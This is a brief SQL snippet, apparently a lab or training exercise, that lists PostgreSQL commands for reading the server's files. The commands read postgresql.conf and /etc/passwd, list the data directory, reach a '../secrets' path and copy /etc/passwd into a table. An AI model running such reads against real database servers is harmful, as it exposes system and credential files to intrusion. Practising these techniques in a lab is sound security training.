-- exercise: 118708-x-3
SELECT pg_read_file('postgresql.conf');
SELECT pg_read_file('/etc/passwd');
SELECT pg_ls_dir('.');
SELECT pg_read_binary_file('../secrets');
CREATE TABLE f (x text);
COPY f FROM '/etc/passwd';
